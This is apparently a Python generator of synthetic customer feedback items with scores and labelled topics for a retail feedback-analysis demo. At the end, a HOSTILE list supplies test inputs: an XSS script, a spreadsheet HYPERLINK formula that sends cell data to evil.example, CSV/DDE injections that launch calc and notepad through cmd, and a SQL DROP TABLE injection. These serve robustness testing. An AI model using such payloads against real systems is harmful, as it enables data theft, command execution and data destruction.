"""Turn feedback occasions into feedback items: scores by source and texts consistent with the scores.

Scores come first (from the experience: a delayed delivery, a return before the survey, a failed payment, a
negative service contact, the customer's general mood), then the aspects the text talks about follow from
the score and its causes, then the text is composed. Ground truth goes into ``properties``:
``demo_topics`` (topics mentioned, in order), ``demo_sentiment`` (positive/negative/mixed/neutral),
``demo_aspects`` ({topic: pos|neg|neu}) and ``demo_pii`` (kinds of personal data in the text, if any).
"""

from __future__ import annotations

import random
from datetime import UTC, datetime, timedelta

from resonanz.demo.gen import data_names as N
from resonanz.demo.gen import data_places as G
from resonanz.demo.gen.data_products import PRODUCTS_BY_CATEGORY
from resonanz.demo.gen.journeys import Journey, Occasion, in_wave
from resonanz.demo.gen.model import END, START, DemoCustomer, DemoEvent, DemoFeedback
from resonanz.demo.gen.texts import TextContext, compose, overall_sentiment

STORE_CITY = {code: city for code, city, _r, _c in G.STORES}
POS_ONLINE = {"product_quality": 5, "delivery": 4, "price_value": 3, "website_app": 2, "sizing_fit": 2,
              "customer_service": 1, "sustainability": 1, "availability": 1}
POS_STORE = {"advice_staff": 5, "store_experience": 3, "product_quality": 3, "availability": 2, "price_value": 1.5}
NEG_ONLINE = {"product_quality": 4, "sizing_fit": 3, "price_value": 3, "availability": 2, "delivery": 1.2,
              "website_app": 1.5, "customer_service": 1, "sustainability": 1, "payment_billing": 0.8}
NEG_STORE = {"store_experience": 2, "availability": 3, "price_value": 2, "product_quality": 3, "advice_staff": 0.7,
             "sizing_fit": 1}
SOCIAL = {"sustainability": 3, "product_quality": 3, "delivery": 1.5, "customer_service": 2, "price_value": 2,
          "store_experience": 1, "advice_staff": 1, "website_app": 1, "returns_refunds": 1, "availability": 1}
WAVE_DELIVERY_FACTOR = 4.0
SOURCE_CHANNEL = {"nps_survey": "email", "csat_survey": "email", "ces_survey": "email", "web_form": "website",
                  "review_site": "review_platform", "app_store": "app", "social": "social", "support_email": "email",
                  "ticket": "email", "chat": "chat", "call": "phone"}


def _pick(rng: random.Random, prior: dict[str, float], exclude: set[str], wave: bool = False) -> str:
    items = [t for t in prior if t not in exclude]
    w = [prior[t] * (WAVE_DELIVERY_FACTOR if wave and t == "delivery" else 1.0) for t in items]
    return rng.choices(items, w)[0]


def _clamp(x: float, lo: int, hi: int) -> int:
    return max(lo, min(hi, round(x)))


def _choice_w(rng: random.Random, values: list[int], weights: list[float]) -> int:
    return rng.choices(values, weights)[0]


class _Writer:
    """Feedback of one customer."""

    def __init__(self, c: DemoCustomer, j: Journey, seed: int) -> None:
        self.c, self.j = c, j
        self.rng = random.Random(f"gipfelwerk:{seed}:feedback:{c.idx}")
        self.returns = sorted(e.occurred_at for e in j.events if e.type in ("return_requested", "refund_issued"))
        self.neg_service = sorted(e.occurred_at for e in j.events
                                  if e.type == "service_contact" and e.properties.get("outcome") == "negative")
        self.items: list[DemoFeedback] = []
        self.events: list[DemoEvent] = []

    def ctx(self, occ: Occasion) -> TextContext:
        rng, c = self.rng, self.c
        o = occ.order
        product = o.product if o else rng.choice(PRODUCTS_BY_CATEGORY[c.attributes["preferred_category"]])
        amount = ""
        if o:
            amount = f"CHF {o.amount}" if o.currency == "CHF" else f"{str(o.amount).replace('.', ',')} €"
        staff = rng.choice(N.STAFF_EN if c.preferred_language == "en" else N.STAFF_DE + N.STAFF_FIRST)
        return TextContext(
            product=product, country=c.country, store=STORE_CITY.get(c.store or "", rng.choice(["München", "Zürich", "Innsbruck"])),
            staff=staff, order=o.external_id if o else "", amount=amount or "89,90 €",
            delay_days=int(occ.info.get("delay_days") or rng.randint(6, 14)),
            phone=c.phone, email=c.email, name=c.name,
            surface="app" if occ.touchpoint in ("app_checkout", "app_cart") or (o and o.channel == "app") else
            "web" if occ.touchpoint in ("online_checkout", "cart") or (o and o.channel == "website") else "",
        )

    def add(self, occ: Occasion, source: str, aspects: list[tuple[str, str]], *, style: str = "survey",
            comment_p: float = 1.0, p_short: float = 0.15, fallback: str = "neutral", **scores: int | None) -> None:
        rng, c = self.rng, self.c
        lang = c.preferred_language
        text, title, pii = "", "", []
        if aspects and rng.random() < comment_p:
            text, title, pii = compose(rng, lang, aspects, self.ctx(occ), style=style, p_short=p_short)
        else:
            aspects = []
        topics: list[str] = []
        for t, _p in aspects:
            if t not in topics:
                topics.append(t)
        props: dict = {"demo_topics": topics, "demo_sentiment": overall_sentiment(aspects) if aspects else fallback,
                       "demo_aspects": dict(aspects)}
        if pii:
            props["demo_pii"] = pii
        if occ.order:
            props["order"] = occ.order.external_id
        tp = occ.touchpoint or ("social_media_post" if source == "social" else None)
        channel = SOURCE_CHANNEL.get(source)
        if source in ("csat_survey", "ces_survey") and tp in ("store_advice", "store_checkout"):
            channel = "store"
        at = min(END, occ.at)
        self.items.append(DemoFeedback(0, source, channel, tp, c.external_id, at, lang, text, title=title, properties=props,
                                       **scores))

    # ---------------------------------------------------------------- occasion kinds
    def nps(self, occ: Occasion) -> None:
        rng, c, info = self.rng, self.c, occ.info
        returned_before = any(t < occ.at for t in self.returns)
        neg_before = any(occ.at - timedelta(days=90) < t < occ.at for t in self.neg_service)
        wave = in_wave(self.c, occ.at) or info.get("wave", False)
        late = info.get("delayed", False) or info.get("wave_issue", False)
        x = (8.2 + 0.9 * c.mood + (0.5 if c.persona == "alpin_profi" else 0) - 3.3 * late
             - 3.3 * returned_before - 1.2 * info.get("payment_failed", False) - 1.2 * neg_before + rng.gauss(0, 1.3))
        score = _clamp(x, 0, 10)
        causes = [t for t, on in (("delivery", late), ("returns_refunds", returned_before),
                                  ("payment_billing", info.get("payment_failed")), ("customer_service", neg_before)) if on]
        store = info.get("store", False)
        pos_prior, neg_prior = (POS_STORE, NEG_STORE) if store else (POS_ONLINE, NEG_ONLINE)
        aspects: list[tuple[str, str]] = []
        if score >= 9:
            for _ in range(rng.choices([1, 2, 3], [0.6, 0.33, 0.07])[0]):
                aspects.append((_pick(rng, pos_prior, {t for t, _ in aspects} | set(causes)), "pos"))
            if causes and rng.random() < 0.15:
                aspects.append((causes[0], "neg"))
        elif score >= 7:
            r = rng.random()
            if causes and r < 0.7 or r < 0.4:
                neg = rng.choice(causes) if causes else _pick(rng, neg_prior, set(), wave)
                aspects = [(_pick(rng, pos_prior, {neg}), "pos"), (neg, "neg")]
            elif r < 0.75:
                aspects = [(_pick(rng, pos_prior, set()), "pos")]
            else:
                aspects = [(_pick(rng, pos_prior, set()), "neu")]
        else:
            aspects = [(t, "neg") for t in causes if rng.random() < 0.88]
            if not aspects:
                aspects = [(_pick(rng, neg_prior, set(), wave), "neg")]
                if rng.random() < 0.35:
                    aspects.append((_pick(rng, neg_prior, {aspects[0][0]}, wave), "neg"))
            if rng.random() < 0.22:
                aspects.insert(0, (_pick(rng, pos_prior, {t for t, _ in aspects}), "pos"))
        fb = "positive" if score >= 9 else "neutral" if score >= 7 else "negative"
        self.add(occ, "nps_survey", aspects, comment_p=0.88 if score <= 6 else 0.78, fallback=fb, nps=score)

    def service(self, occ: Occasion, kind: str) -> None:
        rng, info = self.rng, occ.info
        neg, reason = info["negative"], info["reason"]
        if kind == "text":
            src = {"service_phone": "call", "service_chat": "chat"}.get(occ.touchpoint or "", "support_email")
            if src == "support_email" and rng.random() < 0.45:
                src = "ticket"
            r = rng.random()
            aspects = [(reason, "neu")] if r < 0.15 else [(reason, "neg")]
            if neg and rng.random() < 0.3:
                aspects.append(("customer_service", "neg"))
            elif reason != "delivery" and info.get("wave") and rng.random() < 0.5:
                aspects.append(("delivery", "neg"))
            style = {"call": "call", "chat": "chat", "ticket": "ticket", "support_email": "email"}[src]
            self.add(occ, src, aspects, style=style, p_short=0.05 if style != "chat" else 0.2)
            return
        aspects = [("customer_service", "neg" if neg else "pos")]
        if rng.random() < 0.5:
            aspects.append((reason, "neg" if neg or rng.random() < 0.5 else "pos"))
        if kind == "csat":
            score = _choice_w(rng, [1, 2, 3], [0.5, 0.35, 0.15]) if neg else _choice_w(rng, [3, 4, 5], [0.1, 0.35, 0.55])
            self.add(occ, "csat_survey", aspects, comment_p=0.7, fallback="negative" if neg else "positive", csat=score)
        else:
            score = _choice_w(rng, [1, 2, 3], [0.4, 0.4, 0.2]) if neg else _choice_w(rng, [4, 5, 6, 7], [0.1, 0.25, 0.35, 0.3])
            self.add(occ, "ces_survey", aspects, comment_p=0.6, fallback="negative" if neg else "positive", ces=score)

    def ces_returns(self, occ: Occasion) -> None:
        rng, info = self.rng, occ.info
        slow = info.get("refund_slow", False)
        score = _choice_w(rng, [1, 2, 3, 4], [0.3, 0.35, 0.25, 0.1]) if slow else _choice_w(rng, [3, 4, 5, 6, 7], [0.05, 0.15, 0.3, 0.3, 0.2])
        aspects = [("returns_refunds", "neg" if score <= 3 else "pos" if score >= 5 else "neu")]
        if info.get("return_reason") == "size" and rng.random() < 0.5:
            aspects.append(("sizing_fit", "neg"))
        elif info.get("return_reason") == "defect" and rng.random() < 0.6:
            aspects.append(("product_quality", "neg"))
        self.add(occ, "ces_survey", aspects, comment_p=0.65, fallback="negative" if score <= 3 else "positive", ces=score)

    def checkout(self, occ: Occasion) -> None:
        rng, c = self.rng, self.c
        app, failed = occ.touchpoint == "app_checkout", occ.info.get("payment_failed", False)
        if rng.random() < 0.55:
            x = (2.9 if app else 4.4) - 1.3 * failed + 0.3 * c.mood + rng.gauss(0, 0.9 if app else 0.6)
            score, kw, good, bad = _clamp(x, 1, 5), "csat", 4, 2
        else:
            x = (3.3 if app else 5.9) - 1.6 * failed + 0.3 * c.mood + rng.gauss(0, 1.1 if app else 0.8)
            score, kw, good, bad = _clamp(x, 1, 7), "ces", 5, 3
        pol = "pos" if score >= good else "neg" if score <= bad else "neu"
        aspects = [("website_app", pol)]
        if failed:
            aspects.append(("payment_billing", "neg"))
            aspects = aspects[::-1] if rng.random() < 0.5 else aspects
        elif rng.random() < 0.25:
            aspects.append(("payment_billing", pol if pol != "neu" else "pos"))
        fb = "positive" if pol == "pos" else "negative" if pol == "neg" else "neutral"
        self.add(occ, "csat_survey" if kw == "csat" else "ces_survey", aspects, comment_p=0.6, fallback=fb, style="app",
                 **{kw: score})

    def store_advice(self, occ: Occasion) -> None:
        rng = self.rng
        score = _choice_w(rng, [5, 4, 3, 2, 1], [0.72, 0.22, 0.04, 0.015, 0.005])
        if score >= 4:
            aspects = [("advice_staff", "pos")]
            extra = rng.random()
            if extra < 0.35:
                aspects.append(("store_experience", "pos"))
            elif extra < 0.5:
                aspects.append(("availability", "pos"))
            elif extra < 0.58:
                aspects.append(("availability", "neg"))
        else:
            aspects = [(rng.choice(["advice_staff", "store_experience", "availability"]), "neg")]
        self.add(occ, "csat_survey", aspects, comment_p=0.8, fallback="positive" if score >= 4 else "negative", csat=score)

    def review(self, occ: Occasion) -> None:
        rng, c, info = self.rng, self.c, occ.info
        reason = info.get("return_reason")
        late = info.get("delayed", False) or info.get("wave_issue", False)
        x = 4.3 + 0.6 * c.mood - 1.6 * (reason in ("size", "defect")) - 1.0 * late + rng.gauss(0, 0.8)
        score = _clamp(x, 1, 5)
        if score >= 4:
            aspects = [("product_quality", "pos")]
            if rng.random() < 0.45:
                aspects.append((rng.choice(["sizing_fit", "price_value", "sustainability", "delivery"]), "pos"))
        elif score <= 2:
            aspects = [("sizing_fit" if reason == "size" else "product_quality", "neg")]
            if late and rng.random() < 0.6:
                aspects.append(("delivery", "neg"))
            elif rng.random() < 0.3:
                aspects.append(("price_value", "neg"))
        else:
            aspects = [("product_quality", "pos"), (rng.choice(["sizing_fit", "price_value", "availability"]), "neg")]
        self.add(occ, "review_site", aspects, style="review", fallback="neutral", rating=score)
        self.events.append(DemoEvent("", c.external_id, min(END, occ.at), "review_written", "review_request",
                                     "post_purchase", None, {"rating": score}))

    def app_store(self, occ: Occasion) -> None:
        rng, c = self.rng, self.c
        failed = occ.info.get("payment_failed", False)
        score = _choice_w(rng, [1, 2, 3], [0.6, 0.3, 0.1]) if failed else _clamp(3.4 + 0.5 * c.mood + rng.gauss(0, 1.1), 1, 5)
        if score >= 4:
            aspects = [("website_app", "pos")]
        elif score <= 2:
            aspects = [("website_app", "neg")] + ([("payment_billing", "neg")] if failed or rng.random() < 0.3 else [])
        else:
            aspects = [("website_app", "pos"), ("payment_billing" if failed else "website_app", "neg")]
            if aspects[1][0] == "website_app":
                aspects = [("website_app", "neu")]
        self.add(occ, "app_store", aspects, style="app", p_short=0.3, fallback="neutral", rating=score)

    def social(self, occ: Occasion) -> None:
        if occ.info.get("delivery_complaint"):
            aspects = [("delivery", "neg")] + ([("customer_service", "neg")] if self.rng.random() < 0.25 else [])
        else:
            aspects = social_aspects(self.rng, in_wave(self.c, occ.at))
        self.add(occ, "social", aspects, style="social", p_short=0.3)

    def web_form(self, occ: Occasion) -> None:
        rng = self.rng
        if occ.info.get("delivery_complaint"):
            self.add(occ, "web_form", [("delivery", "neg")], style="form", p_short=0.05)
            return
        topic = rng.choice(["availability", "sizing_fit", "payment_billing", "product_quality", "sustainability", "delivery"])
        pol = rng.choices(["neg", "neu", "pos"], [0.5, 0.4, 0.1])[0]
        self.add(occ, "web_form", [(topic, pol)], style="form", p_short=0.05)

    def churn_text(self, occ: Occasion) -> None:
        rng = self.rng
        topic = "customer_service" if occ.info.get("neg_service") else rng.choice(["price_value", "product_quality", "delivery"])
        self.add(occ, "support_email", [(topic, "neg")], style="email", p_short=0.0)
        item = self.items[-1]
        lead = {"de": ["Bitte löschen Sie mein Kundenkonto.", "Hiermit kündige ich meine Club-Mitgliedschaft.",
                       "Ich möchte mein Konto schließen."],
                "en": ["Please close my account.", "I'm cancelling my club membership."]}[item.language]
        item.text = f"{rng.choice(lead)} {item.text}"

    def run(self) -> tuple[list[DemoFeedback], list[DemoEvent]]:
        for occ in self.j.occasions:
            k = occ.kind
            if k == "nps":
                self.nps(occ)
            elif k in ("service_text", "csat_service", "ces_service"):
                self.service(occ, {"service_text": "text", "csat_service": "csat", "ces_service": "ces"}[k])
            else:
                getattr(self, k)(occ)
        return self.items, self.events


def social_aspects(rng: random.Random, wave: bool) -> list[tuple[str, str]]:
    r = rng.random()
    t1 = _pick(rng, SOCIAL, set(), wave)
    if r < 0.42:
        return [(t1, "neg")]
    if r < 0.78:
        return [(t1, "pos")]
    t2 = _pick(rng, SOCIAL, {t1}, wave)
    return [(t1, "pos"), (t2, "neg")] if r < 0.92 else [(t1, "neu")]


def feedback_for(c: DemoCustomer, j: Journey, seed: int) -> tuple[list[DemoFeedback], list[DemoEvent]]:
    """Feedback items (and ``review_written`` events) of one customer; order numbers must already be set."""
    return _Writer(c, j, seed).run()


def unlinked_social(seed: int, n: int) -> list[DemoFeedback]:
    """Social-media posts by people who are not (known) customers."""
    rng = random.Random(f"gipfelwerk:{seed}:social")
    out = []
    for i in range(n):
        lang = "en" if rng.random() < 0.35 else "de"
        at = START + (END - START) * rng.random()
        aspects = social_aspects(rng, False)
        ctx = TextContext(product=rng.randrange(32), country=rng.choice(["DE", "AT", "CH"]),
                          store=rng.choice([s[1] for s in G.STORES]), staff=rng.choice(N.STAFF_FIRST))
        text, _t, pii = compose(rng, lang, aspects, ctx, style="social", p_short=0.3, p_pii=0.0)
        props = {"demo_topics": list(dict.fromkeys(t for t, _ in aspects)), "demo_sentiment": overall_sentiment(aspects),
                 "demo_aspects": dict(aspects), "handle": f"@{rng.choice(['berg', 'trail', 'alpen', 'gipfel', 'hike'])}"
                 f"{rng.choice(['fex', 'liebe', 'runner', 'kind', 'zeit'])}{rng.randint(1, 999)}"}
        if pii:
            props["demo_pii"] = pii
        out.append(DemoFeedback(0, "social", "social", "social_media_post", None, at, lang, text, properties=props,
                                external_id=f"post-{i + 1}"))
    return out


HOSTILE = [
    ("web_form", "<script>alert(1)</script> Eure Seite zeigt bei mir nur Fehler an", ["website_app"], "negative"),
    ("web_form", '=HYPERLINK("http://evil.example/?d="&A1;"Gutschein einlösen")', [], "neutral"),
    ("social", "-2+3+cmd|' /C calc'!A0 lol", [], "neutral"),
    ("web_form", "@SUM(1+1)*cmd|' /C notepad'!A0", [], "neutral"),
    ("social", "👍👍👍", [], "positive"),
    ("web_form", "Robert'); DROP TABLE feedback;-- Lieferung kam nicht", ["delivery"], "negative"),
]


def hostile(seed: int) -> list[DemoFeedback]:
    """A few attacker-style inputs (XSS, CSV formulas, SQL) to test escaping, export and analysis robustness."""
    rng = random.Random(f"gipfelwerk:{seed}:hostile")
    out = []
    for i, (src, text, topics, sent) in enumerate(HOSTILE):
        at = datetime(2026, rng.randint(1, 9), rng.randint(1, 28), rng.randint(8, 20), tzinfo=UTC)
        out.append(DemoFeedback(0, src, SOURCE_CHANNEL[src], None, None, at, "de", text,
                                properties={"demo_topics": topics, "demo_sentiment": sent, "demo_aspects": {},
                                            "demo_hostile": True}, external_id=f"hostile-{i + 1}"))
    return out
